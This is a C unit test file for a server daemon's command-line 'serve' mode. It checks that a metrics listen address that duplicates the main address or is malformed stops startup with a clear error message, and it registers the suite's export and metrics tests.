/* A metrics address that would share the main one (both would bind it: SO_REUSEPORT), or that
 * is no address, stops `serve` at once with a message naming the variable. */
START_TEST(metrics_address_checked)
{
    static const struct {
        int port; /* 0: the main port */
        const char *message;
    } cases[] = {
        {0, "REPEATD_METRICS_LISTEN must be another address than REPEATD_LISTEN"},
        {-1, "REPEATD_METRICS_LISTEN must be host:port (port 1-65535), not \"127.0.0.1:-1\""},
    };
    int keep = api.metrics_port;
    for (size_t i = 0; i < N_OF(cases); i++) {
        api.metrics_port = cases[i].port ? cases[i].port : api.port;
        char out[256];
        static const char *const args[] = {"serve", NULL};
        int st = harness_run_repeatd(out, sizeof(out), args);
        api.metrics_port = keep;
        ck_assert_msg(st != 0, "serve started with the metrics address %d", cases[i].port);
        ck_assert_msg(log_has(cases[i].message), "no \"%s\" in %s", cases[i].message, api.log_path);
    }
    ck_assert(harness_server_alive());
}
END_TEST

int main(void)
{
    api.metrics_listener = true;
    harness_start("export");
    TCase *tc;
    Suite *s = api_suite(&tc);
    tcase_add_test(tc, export_history);
    tcase_add_test(tc, export_every_endpoint);
    tcase_add_test(tc, export_cells_and_names);
    tcase_add_test(tc, export_negotiation);
    tcase_add_test(tc, metrics_address);
    tcase_add_test(tc, metrics_address_checked);
    return harness_run(s, tc);
}
